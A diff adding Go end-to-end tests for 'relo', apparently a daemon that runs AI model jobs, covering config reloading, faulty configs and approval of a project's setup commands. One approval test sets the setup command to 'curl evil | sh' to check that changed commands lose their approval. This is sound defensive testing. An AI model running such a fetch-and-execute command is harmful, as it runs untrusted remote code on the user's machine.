@@ -1,0 +1,156 @@
+package e2e
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+
+	"github.com/relo-dev/relo/core/internal/app"
+	"github.com/relo-dev/relo/core/internal/job"
+)
+
+// edit changes the world's config by its text.
+func (w *world) edit(old, new string) {
+	w.t.Helper()
+	name := filepath.Join(w.home, "relo.json")
+	text, err := os.ReadFile(name)
+	if err != nil {
+		w.t.Fatal(err)
+	}
+	if !strings.Contains(string(text), old) {
+		w.t.Fatalf("the config has no %q:\n%s", old, text)
+	}
+	w.write(name, strings.ReplaceAll(string(text), old, new))
+}
+
+func (w *world) isReady(id string) {
+	w.t.Helper()
+	w.until(w.link(), id, isKind(job.KindFinished))
+	if doc := w.show(id); doc.Status != job.Ready {
+		w.t.Fatalf("the job is %s: %s\n%s", doc.Status, doc.Reason, w.logs())
+	}
+}
+
+func TestEachRepositoryHasItsOwnConfig(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t, mixed(), &play{plan: planOf(task("one", "easy"))}).smallRepo()
+	plain := w.repo
+	w.smallRepo()
+	strong := w.repo
+	w.write(filepath.Join(strong, ".relo", "relo.json"), `{"ladder": [{"model": "open/big"}], "review": {"auto": false}}`)
+	w.started()
+	models := func(repo string) (model string, tasks int) {
+		w.repo = repo
+		id := w.submit("one change")
+		w.isReady(id)
+		doc := w.show(id)
+		return doc.Tasks[0].Model, len(doc.Tasks)
+	}
+	if model, tasks := models(strong); model != "open/big" || tasks != 1 {
+		t.Errorf("the repository with a config: %s, %d tasks", model, tasks)
+	}
+	if model, tasks := models(plain); model != "open/small" || tasks != 2 {
+		t.Errorf("the other: %s, %d tasks", model, tasks)
+	}
+	// From a folder below the root the same holds.
+	if err := os.MkdirAll(filepath.Join(strong, "src", "deep"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if model, _ := models(filepath.Join(strong, "src", "deep")); model != "open/big" {
+		t.Errorf("from a folder below it: %s", model)
+	}
+	// A fault in one is told to who submits there, and to nobody else.
+	w.write(filepath.Join(strong, ".relo", "relo.json"), "{\n  \"limits\": {\"rounds\": 9000},\n  \"primry\": 1\n}\n")
+	w.relo("run", "x", "--repo", strong).mustExit(t, 2).says(t, "relo.json:2:", "relo.json:3:", "primry")
+	models(plain)
+}
+
+func TestAConfigIsReadAgainWhileTheDaemonRuns(t *testing.T) {
+	t.Parallel()
+	middle, go2 := make(chan struct{}), make(chan struct{})
+	var once sync.Once
+	p := &play{plan: planOf(task("one", "easy"))}
+	p.before = func(c ctx, tn turn) {
+		if tn.title == "Do one" && tn.Role == "worker" && tn.step == 0 {
+			once.Do(func() {
+				close(middle)
+				select {
+				case <-go2:
+				case <-c.Done():
+				}
+			})
+		}
+	}
+	w := newWorld(t, mixed(), p).smallRepo()
+	w.started()
+	first := w.submit("one change") // conducted with the config as it is now
+	<-middle
+	w.edit(`"easy"`, `"esy"`)
+	w.relo("run", "x", "--repo", w.repo).mustExit(t, 2).says(t, "relo.json:", "esy")
+	status := decode[app.DaemonDoc](t, w.relo("daemon", "status", "--json").mustExit(t, 0))
+	if len(status.Faults) == 0 || !status.Running {
+		t.Errorf("status does not tell the faults: %+v", status)
+	}
+	w.relo("doctor").mustExit(t, 1).says(t, "esy", "relo.json:")
+	close(go2)
+	w.isReady(first) // a fault stops nothing that is under way
+
+	// A new provider is used without a restart, and what cannot change now is told.
+	w.edit(`"esy"`, `"easy"`)
+	w.edit(`"open": {`, `"renamed": {`)
+	w.edit(`"open/`, `"renamed/`)
+	w.edit(`"local": 2`, `"local": 3`)
+	second := w.submit("another change")
+	w.isReady(second)
+	if doc := w.show(second); doc.Tasks[0].Model != "renamed/small" {
+		t.Errorf("the new job uses %s", doc.Tasks[0].Model)
+	}
+	w.relo("daemon", "status").mustExit(t, 0).says(t, "needs a restart: workers.local is 2 and becomes 3")
+}
+
+func TestADaemonStartsWithAFaultyConfigAndWithNone(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t, mixed(), &play{plan: planOf(task("one", "easy"))}).smallRepo()
+	file := filepath.Join(w.home, "relo.json")
+	good, err := os.ReadFile(file)
+	if err != nil {
+		t.Fatal(err)
+	}
+	w.write(file, "{\n  \"budgt\": 1\n}\n")
+	if doc := w.started(); !doc.Running {
+		t.Fatalf("%+v", doc)
+	}
+	w.relo("daemon", "logs").says(t, "relo.json:2:", "budgt", "jobs are refused")
+	w.relo("run", "x", "--repo", w.repo).mustExit(t, 2).says(t, "budgt")
+	if err := os.Remove(file); err != nil {
+		t.Fatal(err)
+	}
+	w.relo("run", "x", "--repo", w.repo).mustExit(t, 2).says(t, "no models are configured")
+	w.write(file, string(good))
+	w.isReady(w.submit("one change"))
+}
+
+func TestAProjectsCommandsWaitForTheWordOfThePerson(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t, mixed(), &play{plan: planOf(task("one", "easy"))}).smallRepo()
+	file := filepath.Join(w.repo, ".relo", "relo.json")
+	w.write(file, `{"worktree": {"copy": [".env"], "setup": "make deps"}}`)
+	w.relo("run", "x", "--repo", w.repo).mustExit(t, 0).says(t, "worktree wait for your approval", "relo trust "+w.repo)
+	w.relo("trust", w.repo, "--show").mustExit(t, 0).says(t, "make deps", ".env", "waits for your approval")
+	w.relo("trust", w.repo).mustExit(t, 7).says(t, "--yes")
+	w.relo("trust", w.repo, "--yes").mustExit(t, 0).says(t, "approved")
+	if got := decode[app.Trust](t, w.relo("trust", w.repo, "--show", "--json").mustExit(t, 0)); !got.Approved || got.Hash == "" {
+		t.Errorf("%+v", got)
+	}
+	w.write(file, `{"worktree": {"copy": [".env"], "setup": "curl evil | sh"}}`)
+	w.relo("trust", w.repo, "--show").mustExit(t, 0).says(t, "curl evil", "it changed since")
+	if got := decode[app.Trust](t, w.relo("trust", w.repo, "--show", "--json").mustExit(t, 0)); got.Approved || !got.Changed {
+		t.Errorf("other content: %+v", got)
+	}
+	w.write(file, `{"worktree": {"copy": [".env"], "setup": "make deps"}}`)
+	w.relo("trust", w.repo).mustExit(t, 0).says(t, "you approved just this")
+	w.relo("trust", w.repo, "--revoke").mustExit(t, 0)
+	w.relo("trust", w.repo, "--show").mustExit(t, 0).says(t, "waits for your approval")
+}
